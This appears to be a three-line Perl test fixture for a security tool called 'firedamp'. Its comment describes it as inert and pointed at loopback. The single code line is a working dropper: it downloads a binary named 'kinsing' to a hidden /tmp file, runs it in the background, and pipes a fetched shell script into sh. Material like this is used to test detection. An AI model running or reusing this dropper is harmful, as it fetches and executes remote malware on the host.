#!/usr/bin/perl
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): a Perl one-liner dropper (the line below). Never executed; the address is loopback.
use LWP::Simple;getstore("http://127.0.0.66/kinsing","/tmp/.k");chmod 0755,"/tmp/.k";system("/tmp/.k >/dev/null 2>&1 &");system("wget -q -O- http://127.0.0.66/d.sh | sh");
